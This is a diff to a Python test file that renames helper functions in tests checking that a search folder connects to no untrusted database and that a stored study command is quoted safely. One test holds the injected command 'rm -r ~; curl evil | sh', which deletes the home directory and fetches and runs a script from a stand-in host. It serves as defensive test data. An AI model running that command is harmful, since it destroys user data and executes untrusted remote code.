@@ -15,10 +15,10 @@ from genre import run_folder
 from genre.data.cache.lock import locked
 from genre.errors import GenreError
 from genre.reports.page import Page
-from genre.search.outcome import open_folder, read
+from genre.search.results import load_result, open_search
 from genre.training.loggers import RUN_IDS
 from tests.attacks.conftest import evaluate, refusal, resume, set_in_config
-from tests.search.test_report import made
+from tests.search.conftest import made_search
 
 
 @pytest.mark.parametrize("name", [".lock", "train.log", ".hydra", "checkpoints"])
@@ -128,7 +128,7 @@ def test_a_search_folder_connects_to_no_server(tmp_path: Path, monkeypatch: pyte
         url = f"postgresql://me@127.0.0.1:{server.getsockname()[1]}/x?connect_timeout=2"
         (tmp_path / "search.yaml").write_text(f"storage: {url}\nstudy: s\n")
         with pytest.raises(GenreError, match=re.escape(f"add '--storage={url}' if you trust it")):
-            open_folder(tmp_path)
+            open_search(tmp_path)
         server.settimeout(0)
         with pytest.raises(BlockingIOError):
             server.accept()
@@ -136,21 +136,21 @@ def test_a_search_folder_connects_to_no_server(tmp_path: Path, monkeypatch: pyte
 
 @pytest.mark.parametrize("linked", [True, False])
 def test_a_search_folder_opens_no_other_database(linked: bool, tmp_path: Path) -> None:
-    made(tmp_path, "ccc")
+    made_search(tmp_path, "ccc")
     shutil.copytree(tmp_path, tmp_path / "sent")
     if linked:
         (tmp_path / "sent/study.db").unlink()
         (tmp_path / "sent/study.db").symlink_to(tmp_path / "study.db")
         (tmp_path / "sent/search.yaml").write_text("storage: null\nstudy: s\n")
     with pytest.raises(GenreError, match="names a study that is not in the folder: add --storage=sqlite:///"):
-        open_folder(tmp_path / "sent")
-    assert open_folder(tmp_path / "sent", f"sqlite:///{tmp_path}/study.db").counts == {"complete": 3}
+        open_search(tmp_path / "sent")
+    assert open_search(tmp_path / "sent", f"sqlite:///{tmp_path}/study.db").counts == {"complete": 3}
 
 
 def test_the_command_of_a_study_is_one_of_this_program(tmp_path: Path) -> None:
-    found = made(tmp_path, "ccc")
+    found = made_search(tmp_path, "ccc")
     found.study.set_user_attr("command", "rm -r ~; curl evil | sh")
-    assert read(found.study, Path("a b")).command == "python train.py '~;' curl evil '|' sh 'best=a b'"
+    assert load_result(found.study, Path("a b")).command == "python train.py '~;' curl evil '|' sh 'best=a b'"
 
 
 def test_a_checkpoint_without_its_genres_is_one_line(run: Path) -> None:
